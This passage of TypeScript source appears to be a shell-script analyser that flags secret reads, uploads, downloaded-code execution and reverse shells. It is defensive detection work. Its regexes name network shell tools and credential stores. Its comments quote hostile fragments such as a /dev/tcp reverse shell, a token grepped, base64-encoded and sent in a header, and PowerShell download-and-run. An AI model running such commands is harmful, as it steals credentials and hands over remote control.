        arrays.set(array[1], [...(array[2] ? arrays.get(array[1]) ?? [] : []), ...tokenize(array[3])]);
        continue;
      }
      if (arrays.size) c.words = c.words.flatMap((w) => { const m = /^"?\$\{([A-Za-z_]\w*)\[[@*]\]\}"?$/.exec(w); return m && arrays.has(m[1]) ? arrays.get(m[1])! : [w]; });
      // (what a command's own assignments set, `NAME=value cmd` or `env NAME=value cmd`: seen by what reads the
      // environment, a backup tool's repository among them)
      const cmdEnv = new Map<string, string>();
      for (const w of c.words.slice(0, 12)) { const m = /^([A-Za-z_]\w*)=(.*)$/s.exec(w); if (m) cmdEnv.set(m[1], expand(m[2]).replace(/^["']|["']$/g, '')); }
      const read = readLoops.size && c.words.includes('read') ? readLoops.get(c.words[c.words.length - 1]) : undefined;
      if (read) {
        vals.set(c.words[c.words.length - 1], read.join(' '));
        loopVars.set(c.words[c.words.length - 1], read);
      }
      if (c.words[0] === 'for' && c.words[2] === 'in') {
        vals.set(c.words[1], c.words.slice(3).join(' '));
        loopVars.set(c.words[1], c.words.slice(3, 35));
        continue;
      }
      // `NAME=value cmd …`: the variable is set for that one command, and the command runs
      if (c.words.length > 1 && /^[A-Za-z_]\w*=/.test(c.words[0]) && c.words.some((w) => !/^[A-Za-z_]\w*=/.test(w))) while (/^[A-Za-z_]\w*=/.test(c.words[0])) c.words.shift();
      const b = base(c);
      const [cmd0, ...rest] = c.words;
      // A file whose digest the script takes (`GOT=$(sha256sum "$FILE")`, a signature checked): a script that aborts on a
      // mismatch runs what was pinned, not whatever the server sent (see `verifiedRun`).
      if (DIGESTS.test(c.raw)) for (const m of c.raw.matchAll(/"?(\$\{?\w+\}?[^\s"')]*|[~/][\w./-]+)"?/g)) verified.add(expand(m[1]));
      // `cd DIR`: a relative path after it names DIR's file (`tar -czf "$D/x.tgz" …; cd "$D" && curl -F f=@x.tgz …`)
      if ((cmd0 === 'cd' || cmd0 === 'pushd') && rest.length <= 1) {
        const dir = rest[0] === undefined ? '~' : expand(rest[0]);
        cwd = dir === '-' ? undefined : /^[/~$%]/.test(dir) || !cwd ? dir : `${cwd}/${dir}`;
      }
      let w0 = cmd0.replace(/^.*[\\/]/, '');
      let args = rest;
      // `$S systemctl stop …` where the script set S to `sudo -n` (or to nothing): the variable is a privilege prefix.
      const prefixVar = /^\$\{?([A-Za-z_]\w*)\}?$/.exec(cmd0)?.[1];
      if (prefixVar && rest.length && /^[A-Za-z][\w.-]*$/.test(rest[0]) && new RegExp(`(?:^|[\\s;&|(])${prefixVar}=["']?(?:sudo|doas)\\b`).test(text)) {
        w0 = 'sudo';
        args = ['-n', ...rest];
      }
      // (a program named by a variable the script set, `b=$(printf '%s' 'hs' | rev); … | $b`: that program)
      if ((w0 !== 'sudo' && cmd0.startsWith('$')) || /^"\$/.test(cmd0)) {
        const named = expand(cmd0.replace(/^(["'])(.*)\1$/, '$2'));
        if (PROGRAM_WORD.test(named)) w0 = named;
      }
      // Wrappers that run their arguments: sudo, nohup, env, time, xargs, setsid, exec, nice.
      let hidden = c.background === true;
      // (the program word the wrappers run, path and all: `nohup "$DIR/tool"` runs that file)
      let prog = cmd0;
      // (`command -v curl` looks a program up; it runs nothing)
      if (w0 === 'command' && /^-[vV]$/.test(args[0] ?? '')) args = [];
      while (/^(?:sudo|doas|nohup|env|time|nice|setsid|exec|command|builtin|xargs|timeout|stdbuf|disown)$/.test(w0) && args.length) {
        if (w0 === 'sudo' || w0 === 'doas') effects.push({ ...b, kind: 'escalate' });
        if (w0 === 'nohup' || w0 === 'setsid' || w0 === 'disown') hidden = true;
        let k = 0;
        // (an option's value too: `env -u NAME`, `sudo -u user`, `timeout 5`)
        while (k < args.length && (/^-/.test(args[k]) || /^\w+=/.test(args[k]) || (w0 === 'timeout' && /^\d/.test(args[k])) || ((w0 === 'env' || w0 === 'sudo' || w0 === 'doas') && /^(?:-u|--unset|-C|--chdir|--user|-g|--group)$/.test(args[k - 1] ?? '')))) k++;
        prog = args[k] ?? '';
        w0 = prog.replace(/^.*[\\/]/, '');
        args = args.slice(k + 1);
      }
      // A command substitution in an HTTP client's argument (`-H "Authorization: Bearer $(gh auth token)"`): it runs
      // first, and its output stands there as a variable of its own would, so what it reads is what the request carries.
      if (HTTP_CLIENT.test(w0) && args.some((a) => a[0] !== "'" && /\$\(|`/.test(a))) {
        let n = 0;
        args = args.map((a) => (a[0] === "'" ? a : replaceSubstitutions(a, (sub) => {
          const name = `__cg_sub_${c.line}_${c.pos}_${n++}`;
          assignVar(name, `$(${sub})`, c, b);
          return `\${${name}}`;
        })));
      }
      const all = [w0, ...args].join(' ');
      // Assignments: NAME=value / NAME=$(cmd) carry what the value carries; `local a=… b=…` (and declare, export …)
      // assign each of its words.
      // `: "${NAME:=default}"`: NAME holds the default wherever it was not set
      for (const w of [cmd0, ...rest]) for (const m of w.matchAll(/\$\{([A-Za-z_][A-Za-z0-9_]*):?=([^{}]*)\}/g)) if (!vals.has(m[1])) vals.set(m[1], expand(m[2]).replace(/^["']|["']$/g, ''));
      const assign = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(cmd0);
      if (assign && c.words.length === 1) {
        assignVar(assign[1], assign[2], c, b);
        continue;
      }
      if (/^(?:local|declare|typeset|export|readonly)$/.test(cmd0) && rest.length) {
        // a bare name (`local d=… h=… u`) declares without a value
        const words = rest.filter((w) => !/^-/.test(w) && !/^[A-Za-z_][A-Za-z0-9_]*$/.test(w));
        const each = words.map((w) => /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w));
        if (each.every(Boolean)) {
          for (const a of each) assignVar(a![1], a![2], c, b);
          continue;
        }
      }
      const inKeys = [...upstreamKeys, ...(c.redirectIn ? keysOf(c.redirectIn) : [])];
      // A link printed for someone to open (`echo "$LINK"`, a pairing or "verify" link the agent hands the user): what
      // its query carries goes to its host when it is opened, as a request would take it.
      if ((w0 === 'echo' || w0 === 'printf') && !c.redirectOut)
        for (const a of args) {
          const n = /^["']?\$\{?([A-Za-z_]\w*)\}?["']?$/.exec(a)?.[1];
          const url = n ? links.get(n) : undefined;
          if (!n || !url) continue;
          const { host, hostClass } = classifyHost(url);
          if (!TRUSTED_HOST_CLASSES.includes(hostClass)) effects.push({ ...b, kind: 'send', host, hostClass, url: url.slice(0, 200), channel: 'http', consumes: [varKey(n), ...(vars.get(n) ?? [])] });
        }
      // `set -- "$@" "$f"`: the script's arguments are now what it lists (a later `tar czf x "$@"` packs those files)
      if (w0 === 'set' && args[0] === '--' && args.length > 1) {
        const listed = args.slice(1).flatMap(keysOf);
        if (listed.length) effects.push({ ...b, kind: 'collect', consumes: listed, produces: [`arg:@@${opts.scope}`] });
      }

      // Reads of secret paths and environment by any command (cat, cp, tar, zip, grep, find, base64 …).
      const readKeys: string[] = [];
      // (not where an output option points, `--out ~/backup/.aws/credentials.old`, `-o key.pem`: a file written)
      const outputs = new Set(args.flatMap((a, i) => (i > 0 && OUTPUT_OPTION.test(args[i - 1]!) ? [a] : OUTPUT_OPTION_VALUE.test(a) ? [a] : [])));
      for (const a of [...args, ...(c.redirectIn ? [c.redirectIn] : [])]) {
        if (outputs.has(a)) continue;
        const seen = new Set<string>();
        // Neither prefix to strip, one word without `$` or blanks: the word is its only token.
        const bare = a[0] === '@' || a.includes('=@') || CURL_NAMED_FILE.test(a) ? dataFileOf(a) : a;
        const each = expandEach(bare);
        for (const tok of each.length === 1 && !/\s/.test(each[0]) ? each : each.flatMap((x) => x.split(/\s+/))) {
          const sec = classifySecretPath(tok);
          if (!sec || seen.has(sec) || /^(?:echo|printf|mkdir|test|\[)$/.test(w0)) continue;
          seen.add(sec);
          const e: Effect = { ...b, kind: 'read', secret: sec, path: tok, produces: [`secret:${sec}`, ...keysOf(a)] };
          effects.push(e);
          readKeys.push(...(e.produces ?? []));
        }
        if (a.includes('$'))
          for (const m of a.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
          const env = ownVars.has(m[1]) ? undefined : classifyEnvName(m[1]);
          if (env && env !== 'host-identity') {
            effects.push({ ...b, kind: 'read', secret: env, path: `$${m[1]}`, produces: [`secret:${env}`, `env:${m[1]}@${opts.scope}`] });
            readKeys.push(`secret:${env}`);
          }
        }
      }
      const outKeys = c.redirectOut ? keysOf(c.redirectOut) : [];
      // (`set -euo pipefail` sets shell options; only a bare `set` prints the variables)
      if (/^(?:env|printenv|set|export)$/.test(w0) && (w0 === 'set' ? args.length === 0 : args.filter((a) => !/^-/.test(a)).length === 0)) {
        // Written to a file (`env > state/env.txt`), the environment goes wherever that file goes.
        for (const k of outKeys) scopeFiles.add(k);
        effects.push({ ...b, kind: 'read', secret: 'env-secrets', path: w0, produces: ['secret:env-secrets', `env:*@${opts.scope}`, ...outKeys] });
        readKeys.push('secret:env-secrets');
      }
      // What the command takes in (its input, what it read, the files and variables its arguments name), worked out
      // when an effect first needs it: most commands make no effect that does. All it depends on is settled by here
      // (a command that assigns has been handled above), and every effect that carries it gets the same array.
      let consumedKeys: string[] | undefined;
      const consumed = (): string[] => (consumedKeys ??= [...new Set([...inKeys, ...readKeys, ...args.flatMap(keysOf)])]);

      // Archive / copy / encode: what goes in comes out in the destination.
      if (/^(?:tar|zip|7z|7za|rar|gzip|bzip2|xz|cp|rsync|ditto|mv|cat|base64|xxd|openssl|gpg|split|find|grep|rg|jq|sqlite3|tee)$/.test(w0)) {
        const dests: string[] = [];
        if (w0 === 'tar') {
          const fi = args.findIndex((a) => /^-?[a-zA-Z]*f$/.test(a) || a === '--file');
          if (fi !== -1 && args[fi + 1]) dests.push(args[fi + 1]);
          const fa = args.find((a) => a.startsWith('--file='));
          if (fa) dests.push(fa.slice(7));
        } else if (/^(?:zip|7z|7za|rar)$/.test(w0)) {
          const pos = args.filter((a) => !/^-/.test(a) && !/^a$/.test(a));
          if (pos[0]) dests.push(pos[0]);
        } else if (/^(?:cp|rsync|ditto|mv)$/.test(w0)) {
          const pos = args.filter((a) => !/^-/.test(a));
          if (pos.length >= 2 && !/^[\w.-]+@[\w.-]+:|^[\w.-]+::|^rsync:\/\//.test(pos[pos.length - 1])) dests.push(pos[pos.length - 1]);
        } else if (w0 === 'tee') dests.push(...args.filter((a) => !/^-/.test(a)));
        if (c.redirectOut) dests.push(c.redirectOut);
        const produces = dests.flatMap(keysOf);
        for (const k of produces) scopeFiles.add(k);
        if (c.pos < pipe.length - 1) produces.push(`pipe:${c.line}:${c.pos}@${opts.scope}`);
        if (consumed().length || readKeys.length) {
          const kind = /^(?:tar|zip|7z|7za|rar|gzip|bzip2|xz|split)$/.test(w0) ? 'archive' : /^(?:base64|xxd|openssl|gpg)$/.test(w0) ? 'encode' : 'collect';
          const sec = effects.filter((e) => e.kind === 'read' && e.line === c.line && e.secret).map((e) => e.secret!);
          effects.push({ ...b, kind, ...(dests[0] ? { path: dests[0] } : {}), ...(sec.length ? { carries: [...new Set(sec)] } : {}), consumes: consumed(), produces: [...produces, ...readKeys] });
          upstreamKeys = [...produces, ...readKeys, ...consumed()];
        } else upstreamKeys = produces;
      }

      // Keychain dumps, silent screenshots, clipboard and keystroke capture: personal data taken from the desktop.
      // Credential helpers and OS credential stores (git credential fill, security, secret-tool, cmdkey) print stored secrets.
      const stored = credentialStoreOf([w0, ...args]);
      if (stored || /^(?:screencapture|scrot|gnome-screenshot|grim|maim)$/.test(w0) || (w0 === 'import' && args.includes('-window')) || /^(?:pbpaste|xclip|xsel|wl-paste|get-clipboard|logkeys|xinput)$/i.test(w0)) {
        const secret = stored ?? 'user-files';
        const fileArgs = stored ? [] : args.filter((a) => !/^-/.test(a) && /[/.]/.test(a)).flatMap(keysOf);
        const produces = [...outKeys, ...fileArgs, `secret:${secret}`, `pipe:${c.line}:${c.pos}@${opts.scope}`];
        for (const k of fileArgs) scopeFiles.add(k);
        for (const k of outKeys) scopeFiles.add(k);
        effects.push({ ...b, kind: 'read', secret, produces });
        upstreamKeys = produces;
      }
      // `… | while read -r line; do …`: the variables `read` fills take what comes down the pipe
      const silentRead = w0 === 'read' && (args.includes('-s') || silencedTerminal);
      if (w0 === 'read' && c.pos > 0 && !silentRead) {
        const names = args.filter((a, i) => /^[A-Za-z_]\w*$/.test(a) && !/^-[pdtnNu]$/.test(args[i - 1] ?? ''));
        const taken = consumed();
        if (names.length && taken.length) effects.push({ ...b, kind: 'collect', consumes: taken, produces: names.map(varKey) });
      }
      // Asking for the user's password through a fake system dialog or a silent prompt.
      if ((/^osascript$/.test(w0) && /hidden\s+answer|default\s+answer/i.test(all)) || (/^(?:zenity|kdialog|yad)$/.test(w0) && /--password|--entry/.test(all)) || /^get-credential$/i.test(w0) || silentRead) {
        const produces = [...outKeys, 'secret:user-credentials', `pipe:${c.line}:${c.pos}@${opts.scope}`];
        if (w0 === 'read') produces.push(...args.filter((a) => /^[A-Za-z_]\w*$/.test(a)).map(varKey));
        effects.push({ ...b, kind: 'read', secret: 'user-credentials', produces });
        if (w0 !== 'read') effects.push({ ...b, kind: 'instruct', instruct: 'phish' });
        upstreamKeys = produces;
      }
      // Running a package fetched from the registry at that moment (`npx -y pkg@latest`): code nobody inspected.
      if (/^(?:npx|bunx|pnpx)$/.test(w0) || (/^(?:pnpm|yarn)$/.test(w0) && args[0] === 'dlx') || (w0 === 'npm' && /^(?:exec|x)$/.test(args[0] ?? ''))) {
        const spec = args.filter((a) => !/^-/.test(a) && !/^(?:dlx|exec|x)$/.test(a))[0];
        // (`npx --no tool`, `--no-install`, `--offline`: only what the project already installed runs; nor is `npx
        // node-gyp` a download: npm puts the node-gyp it ships on the PATH of the scripts it runs)
        if (spec && !args.some((a) => /^--(?:no|no-install|offline)$/.test(a)) && spec !== 'node-gyp') {
          // (a tarball or repository by URL is that host's package, not the registry's)
          const url = PACKAGE_URL.exec(expand(spec))?.[1];
          const pinned = !url && /@\d+\.\d+\.\d+(?:[-+][\w.-]+)?$/.test(spec);
          const where = url ? { ...classifyHost(url), url } : { host: 'registry', hostClass: 'registry' as const };
          effects.push({ ...b, kind: 'exec', origin: pinned ? 'literal' : 'downloaded', ...where, name: spec, command: c.raw });
        }
      }
      // A package manager installing from an index or registry the command names (`npm i --registry=http://…`,
      // `pip install --index-url …`): the packages, and the install scripts they run, are that host's. Judged as the
      // host's code only where the host is one nobody publishes packages from (a bare IP, a paste site, a tunnel).
      if (/^(?:npm|pnpm|yarn|bun|pip[23]?|uv|pipx|gem)$/.test(w0) || (/^python[23]?$/.test(w0) && args[0] === '-m' && /^pip/.test(args[1] ?? ''))) {
        const installs = args.some((a) => /^(?:i|install|add|ci|sync)$/.test(a));
        // (or a package named by its tarball's URL: `npm i https://…/x-1.0.0.tgz`)
        const named = installs ? indexUrlOf(args.map(expand)) : undefined;
        const packageUrl = installs && !named ? args.map((a) => PACKAGE_URL.exec(expand(a))?.[1]).find(Boolean) : undefined;
        const index = named ?? packageUrl;
        if (index) {
          const { host, hostClass } = classifyHost(index);
          // (a package file by its address on a domain nobody knows, `pip install https://cdn.x/tool-2.3.0-py3-none-any.whl`,
          // is that host's code too: an index there may be a company's mirror, one file fetched from it is not)
          if (UNTRUSTED_INDEX_HOST.has(hostClass) || (packageUrl && hostClass === 'unknown' && /\.(?:whl|tar\.gz|tgz|zip|gem)(?:[?#]|$)/i.test(packageUrl))) effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, url: index, command: c.raw });
        }
      }
      // A shell given its script as an argument (`sh -c '…'`, `bash -lc "…"`: an MCP server's launch command, a task's):
      // the script's commands are run. (`bash -c "$(curl …)"` and decoded `-c` strings are handled below as well.)
      if (/^(?:ba|z|da|k)?sh$/.test(w0) && depth < 4) {
        const ci = args.findIndex((a) => /^-[a-z]*c[a-z]*$/.test(a));
        const given = ci !== -1 ? args[ci + 1]?.replace(/^(["'])([\s\S]*)\1$/, '$2') : undefined;
        // (a variable the script gave a literal value, `bash -c "$line"`: that value is the script)
        const held = given ? /^\$\{?([A-Za-z_]\w*)\}?$/.exec(given)?.[1] : undefined;
        const script = held && vals.has(held) ? vals.get(held)!.replace(/^(["'])([\s\S]*)\1$/, '$2') : given;
        if (script && !/^\$\(|^`/.test(script)) for (const e of lowerShell(script, { ...opts, firstLine: c.line, depth: depth + 1, outer: scope() })) effects.push(e);
      }
      // split's filter runs a shell command on each chunk it reads (`split -b 35000 --filter="curl --data-binary @- …" -`):
      // that command is run, with the data piped in as its input. (In double quotes the outer shell fills in the
      // script's variables first: `'$ch'` inside them is the value, single-quoted.)
      if (w0 === 'split' && depth < 4) {
        const at = args.findIndex((a) => /^--filter(?:=|$)/.test(a));
        const raw = at < 0 ? undefined : args[at].includes('=') ? args[at].slice(args[at].indexOf('=') + 1) : args[at + 1];
        const script = raw === undefined ? undefined : raw[0] === "'" ? raw.slice(1, -1) : raw.replace(/^"([\s\S]*)"$/, '$1').replace(/\$\{?([A-Za-z_]\w*)\}?/g, (m, n: string) => vals.get(n) ?? m);
        if (script) for (const e of lowerShell(script, { ...opts, firstLine: c.line, depth: depth + 1, outer: scope() })) effects.push(e.kind === 'send' && inKeys.length ? { ...e, consumes: [...(e.consumes ?? []), ...inKeys] } : e);
      }
      // A program handed as a here-document (heredocPrograms): lowered by its language, each effect on its own line; an
      // argument whose value is known is written in where the program reads it (`sys.argv[1]`, `ARGV[0]`).
      const program = /^(?:python[23]?|ruby)$/.test(w0) && inlineLowerer ? programs.get(c.line - (opts.firstLine ?? 1)) : undefined;
      if (program) {
        // (a path under the home as the program sees it, `~/.config/pip/pip.conf`)
        const argv = args.filter((a, k) => !(k === 0 && a === '-')).map((a) => expand(a).replace(/^(["'])([\s\S]*)\1$/, '$2').replace(/^\$\{?HOME\}?(?=\/|$)/, '~'));
        const known = (v: string | undefined): v is string => v !== undefined && !v.includes('$');
        const body = program.body
          .replace(program.lang === 'python' ? /\bsys\.argv\[(\d)\]/g : /\bARGV\[(\d)\]/g, (all, n: string) => {
            const v = argv[Number(n) - (program.lang === 'python' ? 1 : 0)];
            return known(v) ? JSON.stringify(v) : all;
          })
          // (and every argument at once, `path, sec, key, val = sys.argv[1:]`: a list of them, when all are known)
          .replace(/\bsys\.argv\[1:\]/g, (all) => (program.lang === 'python' && argv.length && argv.every(known) ? JSON.stringify(argv) : all));
        // (each effect at its line of the body, where the body is written: a function's, for a call of it)
        for (const e of inlineLowerer!(program.lang, body, opts.file, opts.reach)) effects.push({ ...e, line: (opts.firstLine ?? 1) + program.at + e.line, ...(opts.decoded ? { decoded: true } : {}) });
      }
      // Inline programs (`node -e`, `python -c`, `perl -e`, `ruby -e`): the commands their strings hold are run too.
      if (/^(?:node|nodejs|python[23]?|perl|ruby|php|deno|bun)$/.test(w0)) {
        const ci = args.findIndex((a) => /^(?:-e|-c|-p|--eval|--print|-r|eval)$/.test(a));
        const code = ci !== -1 ? args[ci + 1] : undefined;
        const inlineLang = /^python/.test(w0) && args[ci] === '-c' ? 'python' : w0 === 'ruby' && args[ci] === '-e' ? 'ruby' : undefined;
        // (JavaScript: the emulator runs it, where a collector is given; the reading of its strings below stays)
        if (code && opts.inlineNode && /^(?:node|nodejs)$/.test(w0) && /^(?:-e|-p|--eval|--print)$/.test(args[ci])) {
          const word = tokenize(code);
          const rest = args.slice(ci + 2).filter((a) => !/^(?:&&|\|\||;|\||&|\d?>>?.*)$/.test(a));
          opts.inlineNode.push({ file: opts.file, line: c.line, code: word.length === 1 ? word[0] : code.replace(/^(["'])([\s\S]*)\1$/, '$2'), args: rest.map((a) => expand(a).replace(/^(["'])([\s\S]*)\1$/, '$2')) });
        }
        if (code && inlineLang && inlineLowerer) {
          // (the program as the interpreter gets it: one shell word, its quotes removed)
          const word = tokenize(code);
          const lowered = inlineLowerer(inlineLang, word.length === 1 ? word[0] : code.replace(/^(["'])([\s\S]*)\1$/, '$2'), opts.file, opts.reach);
          for (const e of lowered) effects.push({ ...e, line: c.line, lang, ...(opts.decoded ? { decoded: true } : {}), evidence: `${w0} ${args[ci]}: ${e.evidence}`.slice(0, 200) });
          if (lowered.length) continue;
        }
        if (code) {
          for (const m of code.matchAll(/(['"`])((?:(?!\1)[^\\]|\\.){6,})\1/g)) {
            if (/\b(?:curl|wget|bash|sh|powershell|iwr|iex|nc|chmod|rm|crontab|base64|scp)\b/.test(m[2])) for (const e of lowerShell(m[2], { ...opts, firstLine: c.line, depth: depth + 1 })) effects.push(e);
          }
          // A program that fetches a URL and runs what came back (`node -e "https.get(u, r => … eval(d))"`): downloaded code.
          const fetchedUrl = INLINE_GETS.test(code) && INLINE_RUNS.test(code) ? URL_IN.exec(code)?.[0] : undefined;
          if (fetchedUrl && !effects.some((e) => e.line === c.line && e.kind === 'exec')) {
            const h = classifyHost(fetchedUrl);
            const key = `net:${fetchedUrl}`;
            effects.push({ ...b, kind: 'fetch', url: fetchedUrl, host: h.host, hostClass: h.hostClass, produces: [key] });
            effects.push({ ...b, kind: 'exec', origin: 'downloaded', url: fetchedUrl, host: h.host, hostClass: h.hostClass, command: code.slice(0, 200), consumes: [key] });
          }
          if (/child_process|execSync|exec\(|spawn|subprocess|os\.system|eval\(|Function\(/.test(code) && !effects.some((e) => e.line === c.line && e.kind === 'exec')) effects.push({ ...b, kind: 'exec', origin: 'literal', command: code.slice(0, 200) });
        }
        if (code) continue;
      }

      // Network: curl / wget / nc / scp / rsync / ssh / dig / mail / git push / Invoke-WebRequest (an interpreter given
      // a URL and no script of its own to run fetches it; `python3 /tmp/ld.py http://…` runs the script, with the URL
      // for an argument).
      const xargs = args.map(expand);
      const urlArg = xargs.find((a) => URL_IN.test(a) && !/^-/.test(a)) ?? xargs.find((a) => URL_IN.test(a));
      const url = urlArg ? URL_IN.exec(urlArg)?.[0] : undefined;
      // (PowerShell that runs what it downloads, `iex $w.DownloadString(…)`, is a run: lowered below)
      const psRuns = /^(?:powershell|pwsh)(?:\.exe)?$/i.test(w0) && /iex|invoke-expression/i.test(all) && /downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod|net\.webclient/i.test(all);
      // `certutil -decode IN OUT` (or -decodehex): OUT is IN decoded, a Windows base64 -d
      if (/^certutil(?:\.exe)?$/i.test(w0) && args.some((a) => /^[-/]decode(?:hex)?$/i.test(a))) {
        const [from, to] = args.filter((a) => !/^[-/]/.test(a));
        if (from && to) effects.push({ ...b, kind: 'encode', evidence: `decodes ${from} into ${to}`, consumes: keysOf(from), produces: keysOf(to) });
        continue;
      }
      if (HTTP_CLIENT.test(w0) || (/^(?:python3?|node|powershell|pwsh)$/i.test(w0) && url && !runsScriptFile(args) && !psRuns)) {
        // The destination: the URL, else a variable (the user's configured endpoint; not an option's value, as the
        // file of `-T "$SNAP.tgz"`), else a bare host word. A variable a server's answer filled (`URL=$(curl …/presign)`)
        // is where that server says: its host's class.
        const optionValue = (i: number) => /^(?:-[TdFHoOuXAebcwKE]|--(?:upload-file|data(?:-\w+)?|form|header|output|user|request|user-agent|referer|cookie(?:-jar)?|write-out|config|cert|key|cacert))$/.test(args[i - 1] ?? '');
        const target = url ?? xargs.find((a, i) => /^["']?\$\{?\w/.test(a) && !optionValue(i)) ?? args.find((a) => !/^-/.test(a) && !/[=@]/.test(a) && /^[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?(?:\/|$)/i.test(a));
        const targetVar = !url && target ? /^["']?\$\{?([A-Za-z_]\w*)/.exec(target)?.[1] : undefined;
        const classified = targetVar && answered.has(targetVar) ? answered.get(targetVar)! : target ? classifyHost(target) : { host: '', hostClass: 'configured' as const };
        const { host } = classified;
        // An upload to a storage or messaging API signed with a token written into the script goes to the author's
        // account there, not the user's (a Dropbox app token, a bot token): a drop box, as a webhook is.
        // (or an address signed for uploads written into the script, a presigned bucket URL: PRESIGNED_URL)
        const hostClass = classified.hostClass === 'vendor' && (xargs.some((a, i) => /^(?:-H|--header)$/i.test(args[i - 1] ?? '') && LITERAL_AUTH.test(a)) || (!!url && PRESIGNED_URL.test(url))) ? 'webhook' : classified.hostClass;
        // (a header, user agent, cookie or referer filled from a variable the script made of secrets it read carries them
        // too: `-H "x-mirror-hint: $hint"` after `hint=$(grep token ~/.openclaw/openclaw.json | base64)`)
        const inHeaders = args.some((a, i) => /^(?:-H|--header|-A|--user-agent|-b|--cookie|-e|--referer|-Headers|-UserAgent)$/i.test(args[i - 1] ?? '') && [...a.matchAll(/\$\{?([A-Za-z_]\w*)/g)].some((m) => (vars.get(m[1]) ?? []).some((k) => k.startsWith('secret:'))));
        // (certutil and bitsadmin only download: their `-f` forces, and the file after the URL is where it is written)
        const downloader = /^(?:certutil|bitsadmin|start-bitstransfer)(?:\.exe)?$/i.test(w0);
        const uploads = !downloader && (inHeaders || args.some((a, i) => /^(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|--post-file|--post-data|--body-file|-InFile|-Body|--json)$/i.test(a) || /^--data(?:-\w+)?=|^--post-(?:data|file)=|^-d\S|^-F\S/.test(a) || (/^-X$|^--request$|^-Method$/i.test(a) && /^(?:POST|PUT|PATCH)$/i.test(args[i + 1] ?? ''))) || inKeys.length > 0);
        if (uploads) {
          const carries = [...new Set(consumed().filter((k) => k.startsWith('secret:')).map((k) => k.slice(7)))] as Effect['carries'];
          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'http', ...(url ? { url } : {}), ...(carries?.length ? { carries } : {}), consumes: consumed() });
        }
        const out = args.find((a, i) => /^(?:-o|--output|-O|-OutFile|--output-document)$/i.test(args[i - 1] ?? '') ) ?? (downloader && urlArg ? args[xargs.indexOf(urlArg) + 1] : undefined) ?? c.redirectOut;
        const fetch: Effect = { ...b, kind: 'fetch', host, hostClass, ...(url ? { url } : {}), produces: [...(out ? keysOf(out) : []), `pipe:${c.line}:${c.pos}@${opts.scope}`, ...outKeys] };
        if (!uploads || out || c.pos < pipe.length - 1) effects.push(fetch);
        upstreamFetched = fetch;
        upstreamKeys = fetch.produces ?? [];
        continue;
      }
      if (/^(?:scp|sftp|rsync|rclone|ftp|lftp|smbclient|aws|gsutil|az)$/.test(w0)) {
        const remote = args.find((a) => /^[\w.-]+@[\w.-]+:|^[\w.-]+:[~/]|^rsync:\/\/|^s3:\/\/|^gs:\/\/|:\/\//.test(a));
        const isUpload = remote && args.indexOf(remote) === args.length - 1;
        if (remote && (isUpload || /^(?:aws|gsutil|az|rclone)$/.test(w0))) {
          const host = remote.replace(/^[\w.-]+@/, '').replace(/:.*$/, '').replace(/^(?:rsync|s3|gs):\/\//, '');
          const hc = /^(?:s3|gs):\/\//.test(remote) ? classifyHost(host).hostClass === 'unknown' ? 'unknown' : classifyHost(host).hostClass : classifyHost(host).hostClass;
          effects.push({ ...b, kind: 'send', host, hostClass: hc, channel: 'scp', consumes: consumed() });
        }
      }
      // Backup tools: what they back up goes to the repository they are given (`restic -r URL backup ~`, its
      // RESTIC_REPOSITORY, `borg create user@host:repo::name ~`, `duplicity ~ sftp://host/path`). The home folder or
      // the user's documents backed up whole are the user's files; a secret's folder named is that secret.
      const backup = backupOf(w0, args.map(expand), (n) => cmdEnv.get(n) ?? vals.get(n));
      if (backup) {
        const hc = classifyHost(backup.host);
        const carried = [...new Set(backup.sources.flatMap((p) => { const sec = classifySecretPath(p); return sec ? [sec] : HOME_OR_DOCUMENTS.test(p) ? ['user-files' as const] : []; }))];
        effects.push({ ...b, kind: 'send', host: hc.host, hostClass: hc.hostClass, channel: 'scp', consumes: consumed(), ...(carried.length ? { carries: carried } : {}) });
      }
      if (/^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(w0)) {
        const host = args.map((a) => /^(?:tcp\d?|udp\d?|ssl|openssl)(?:-connect)?:([^:,]+):\d+/i.exec(a)?.[1] ?? a).find((a) => /^(?:\d{1,3}\.){3}\d{1,3}$|^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(a));
        if (host && (inKeys.length || c.redirectIn || args.includes('-e') || args.includes('-c') || /exec:|\/bin\/(?:ba)?sh/.test(all))) {
          const { hostClass } = classifyHost(host);
          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'socket', consumes: consumed() });
          if (/-e|-c|exec:|\/bin\/(?:ba)?sh/.test(all)) effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, channel: 'socket', command: c.raw });
        }
      }
      // A socket opened on a descriptor (`exec 5<>/dev/tcp/$h/$p`), and a shell whose input is that descriptor
      // (`cat <&5 | bash >&5`, `sh <&5 >&5`): a reverse shell, however the address and port were spelled.
      const opened = /(?:^|\s)(\d+)<>\s*\/dev\/(?:tcp|udp)\/([^/\s]+)\//.exec(c.raw);
      if (opened) sockets.set(opened[1], expand(opened[2]));
      if (sockets.size && SHELLS.test(w0) && !args.some((a) => /\.\w+$/.test(a))) {
        for (const [fd, host] of sockets) {
          const reads = new RegExp(String.raw`<&\s*${fd}(?!\d)`);
          if (!pipe.slice(0, c.pos + 1).some((s) => reads.test(s.raw))) continue;
          const { hostClass } = classifyHost(host);
          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'socket', consumes: consumed() });
          effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, channel: 'socket', command: c.raw });
          break;
        }
      }
      if (/\/dev\/(?:tcp|udp)\/([^/\s]+)\/\d+/.test(c.raw)) {
        const host = expand(/\/dev\/(?:tcp|udp)\/([^/\s]+)\//.exec(c.raw)![1]);
        const { hostClass } = classifyHost(host);
        effects.push({ ...b, kind: 'send', host, hostClass, channel: 'socket', consumes: consumed() });
        if (/-i\b|0>&1|<&|\bexec\b/.test(c.raw)) effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, channel: 'socket', command: c.raw });
      }
      if (/^(?:dig|nslookup|host|drill|resolvectl|ping)$/.test(w0)) {
